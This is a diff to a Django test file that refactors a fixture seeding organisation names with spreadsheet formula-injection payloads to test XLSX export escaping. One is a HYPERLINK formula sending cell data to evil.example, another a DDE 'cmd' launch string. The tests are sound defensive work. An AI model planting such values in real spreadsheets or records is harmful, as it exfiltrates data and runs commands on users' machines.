@@ -13,16 +13,15 @@ import openpyxl
 import pytest
 from django.urls import URLPattern, URLResolver, get_resolver, reverse
 
-from shuping.campaigns import services as campaign_services
-from shuping.campaigns.models import CampaignState
 from shuping.core.xlsx import FORMULA_TRIGGERS
 from shuping.dashboards.selectors import DASHBOARDS
 from shuping.orgs import services as org_services
 from shuping.routine import services as routine_services
 from shuping.stars import services as star_services
 
-from ..builders import cast_ballot, make_campaign, make_user
+from ..builders import make_user
 from ..rectification.conftest import new_problem
+from .test_backup import published_campaign
 
 HOSTILE_ORG = '=HYPERLINK("http://evil.example/?"&C2,"点此查看")'
 HOSTILE_TOWN = "+cmd|' /C calc'!A0"
@@ -46,13 +45,7 @@ def hostile(tree, settings, tmp_path):
     org_services.org_update(actor=None, org=tree.village_a1, name=HOSTILE_ORG)
     org_services.org_update(actor=None, org=tree.town_a1, name=HOSTILE_TOWN)
     org_services.person_update(actor=None, person=tree.person_a, name=HOSTILE_PERSON)
-    campaign = make_campaign(tree)
-    p1, p2 = campaign.participants.order_by("agenda_order")
-    cast_ballot(campaign, p1, "CW", {"R1": "14.5", "R2": "13"}, democratic="好")
-    cast_ballot(campaign, p2, "CW", {"R1": "10", "R2": "9"}, evaluator="E2", democratic="一般")
-    for state in [CampaignState.WRITING, CampaignState.REVIEW, CampaignState.MEETING, CampaignState.SCORING]:
-        campaign = campaign_services.campaign_transition(actor=None, campaign=campaign, to_state=state)
-    campaign_services.campaign_publish(actor=None, campaign=campaign)
+    campaign = published_campaign(tree)
     star_set = star_services.criteria_set_create(actor=None, organiser=tree.county_a, year=YEAR)
     star_services.ratings_open(actor=None, criteria_set=star_set)
     new_problem(tree.village_a1, HOSTILE_ORG)
